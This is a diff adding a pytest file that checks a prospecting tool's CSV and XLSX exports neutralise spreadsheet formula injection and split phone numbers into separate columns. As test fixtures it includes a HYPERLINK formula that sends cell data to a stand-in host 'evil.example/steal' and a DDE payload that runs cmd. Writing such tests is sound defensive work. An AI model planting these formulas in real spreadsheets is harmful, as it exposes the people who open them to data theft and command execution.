@@ -1,0 +1,131 @@
+"""CSV and XLSX exports: spreadsheet formulas in scraped or typed text are neutralised (OWASP:
+a leading apostrophe), and the CRM phone columns hold one number each: Phone, Other Phones."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from prospect.exporting import FORMULA_STARTS, export_bytes
+from tests.conftest import copy_store
+from tests.support.cli import FAST, prospect, show
+from tests.support.webserver import TestSite
+
+HENGAN = "http://www.hengan-anfang.cn/"
+NAME = '=HYPERLINK("http://evil.example/steal?d="&A2,"恒安安防")'
+ADDRESS = "+86 深圳市南山区科技园1栋B座1508室"
+PAGE = """<html><head><title>{name} - {title}</title></head><body><h1>{name}</h1>{body}</body></html>"""
+
+
+def csv_cells(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # BOM, for Excel
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def xlsx_cells(data: bytes, path) -> list[list]:
+    path.write_bytes(data)
+    sheet = load_workbook(path).active
+    return [[cell for cell in row] for row in sheet.iter_rows()]
+
+
+def dangerous(text) -> bool:
+    return isinstance(text, str) and text.startswith(FORMULA_STARTS)
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    """A real crawl of a site whose company name and address are formulas, plus brands a rep
+    pasted from a CRM export that were formulas too."""
+    site = TestSite("127.0.0.54")
+    site.page("/", PAGE.format(name=NAME, title="首页", body='<a href="/about.html">关于我们</a> '
+                                                            '<a href="/contact.html">联系我们</a>'))
+    site.page("/about.html", PAGE.format(name=NAME, title="关于我们", body="<p>公司成立于2009年，主营门禁系统。</p>"))
+    site.page("/contact.html", PAGE.format(name=NAME, title="联系我们",
+                                           body=f"<p>电话：0755-83456701</p><p>地址：{ADDRESS}</p>"))
+    site.start()
+    db = tmp_path_factory.mktemp("hostile-export") / "x.db"
+    try:
+        prospect(db, "add", site.url)
+        prospect(db, "crawl", "--quiet", "--allow-private", *FAST)
+    finally:
+        site.stop()
+    prospect(db, "set", site.url, "brands", '["-2+3", "+cmd|\' /C notepad\'!A0", "Paxton"]')
+    prospect(db, "set", site.url, "main_business", "=1+1 门禁系统", "--note", "pasted from the CRM")
+    return db, site.url
+
+
+def test_scraped_formulas_reach_the_store_as_text(hostile_db):
+    db, url = hostile_db
+    shape = show(db, url)
+    assert shape["name"].startswith("=HYPERLINK(")  # the title's repeated segment
+    assert shape["evidence"]["brands"]["value"][0] == "-2+3"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_no_cell_starts_a_formula(hostile_db, fmt, tmp_path):
+    db, url = hostile_db
+    data = prospect(db, "export", "--format", fmt, "-o", str(tmp_path / f"out.{fmt}")) and \
+        (tmp_path / f"out.{fmt}").read_bytes()
+    if fmt == "csv":
+        header, *rows = csv_cells(data)
+        values = rows[0]
+    else:
+        cells = xlsx_cells(data, tmp_path / "check.xlsx")
+        header, values = [c.value for c in cells[0]], [c.value for c in cells[1]]
+        assert all(c.data_type != "f" for c in cells[1])  # not one formula cell
+    row = dict(zip(header, values))
+    assert not any(dangerous(v) for v in values), [v for v in values if dangerous(v)]
+    assert row["Company Name"] == "'" + show(db, url)["name"]
+    address = show(db, url)["evidence"].get("office_address")
+    if address:  # the extractors may or may not read it; if they did, it is neutralised
+        assert row["Address"] == "'" + address["value"]
+    assert row["brands"] == "'-2+3; +cmd|' /C notepad'!A0; Paxton"
+    assert row["main_business"] == "'=1+1 门禁系统"
+
+
+@pytest.mark.parametrize("value", ["-2+3", "+1-1", "-0571-85369138", "+44 (0)161 496 0732", "@1", "=1"])
+def test_values_made_only_of_digits_and_operators_are_neutralised_too(value):
+    """Excel computes `-2+3` as 1 and `-0571-85369138` as -85369709: no value is exempt."""
+    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": value, "status": "done", "error": None,
+             "pages": [], "needs_review": [], "score": None, "evidence": {}}
+    header, row = csv_cells(export_bytes([shape], "csv"))
+    assert dict(zip(header, row))["Company Name"] == "'" + value
+
+
+def test_every_formula_start_is_neutralised():
+    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": None, "status": "done", "error": None,
+             "pages": [], "needs_review": [], "score": None,
+             "evidence": {"brands": {"value": [f"{c}1+1" for c in FORMULA_STARTS], "confidence": "low"}}}
+    cells = {}
+    for start in FORMULA_STARTS:
+        shape["evidence"]["main_business"] = {"value": f"{start}HYPERLINK(1)", "confidence": "low"}
+        header, row = csv_cells(export_bytes([shape], "csv"))
+        cells[start] = dict(zip(header, row))["main_business"]
+    assert cells == {start: f"'{start}HYPERLINK(1)" for start in FORMULA_STARTS}
+    assert export_bytes([shape], "xlsx")[:2] == b"PK"
+
+
+def test_control_characters_do_not_break_the_xlsx(tmp_path):
+    shape = {"url": "http://www.x.cn/", "domain": "x.cn", "name": "恒安\x07安防\x1b", "status": "done",
+             "error": None, "pages": [], "needs_review": [], "score": None, "evidence": {}}
+    cells = xlsx_cells(export_bytes([shape], "xlsx"), tmp_path / "c.xlsx")
+    assert cells[1][0].value == "恒安安防"
+
+
+def test_phone_and_other_phones(sites_db, tmp_path):
+    db = copy_store(sites_db, tmp_path / "phones.db")
+    numbers = show(db, HENGAN)["evidence"]["phone_numbers"]["value"]
+    assert len(numbers) >= 3
+    header, *rows = csv_cells(prospect(db, "export", "--format", "csv").stdout.encode("utf-8"))
+    assert header[:6] == ["Company Name", "Website", "Phone", "Other Phones", "Fax", "Address"]
+    row = {r[1]: dict(zip(header, r)) for r in rows}[HENGAN]
+    assert row["Phone"] == numbers[0]
+    assert row["Other Phones"] == "; ".join(numbers[1:])
+    uk = {r[1]: dict(zip(header, r)) for r in rows}["https://www.northgate-access.co.uk/"]
+    assert uk["Phone"].startswith("'+44 ") and uk["Other Phones"].startswith("'+44 ")  # not a formula in Excel
+    prospect(db, "set", HENGAN, "phone_numbers", "0755 8345 6701", "--note", "only the switchboard works")
+    header, *rows = csv_cells(prospect(db, "export", "--format", "csv").stdout.encode("utf-8"))
+    row = {r[1]: dict(zip(header, r)) for r in rows}[HENGAN]
+    assert (row["Phone"], row["Other Phones"]) == ("0755-83456701", "")
